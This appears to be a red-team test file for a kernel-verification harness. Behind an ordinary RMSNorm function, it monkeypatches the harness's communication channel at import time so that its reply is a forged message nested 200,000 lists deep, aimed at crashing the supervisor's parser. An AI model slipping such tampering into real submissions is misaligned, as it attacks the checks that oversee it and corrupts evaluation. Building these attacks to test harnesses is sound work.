import gc
import struct

import torch

from kloop.verify.channel import Channel

_channel = next(o for o in gc.get_objects() if isinstance(o, Channel))
_send = _channel.send


def _deep(header, tensors=None):
    nested = b"[" * 200_000 + b"]" * 200_000
    body = (b'{"op": "%s", "nonce": "%s", "ok": true, "x": ' % (header["op"].encode(), header["nonce"].encode())
            + nested + b', "tensors": []}')
    # the evidence first: the supervisor kills the box as soon as it reads the reply
    print(f"KLOOP-EVIDENCE attack_deep_nesting: sending a {header['op']} reply nesting 200000 lists ({len(body)} bytes)",
          flush=True)
    _channel.sock.sendall(b"KLV1" + struct.pack("!II", len(body), 0) + body)


_channel.send = _deep


def run(x, w):
    return x * torch.rsqrt(x.pow(2).mean(-1, keepdim=True) + 1e-6) * w
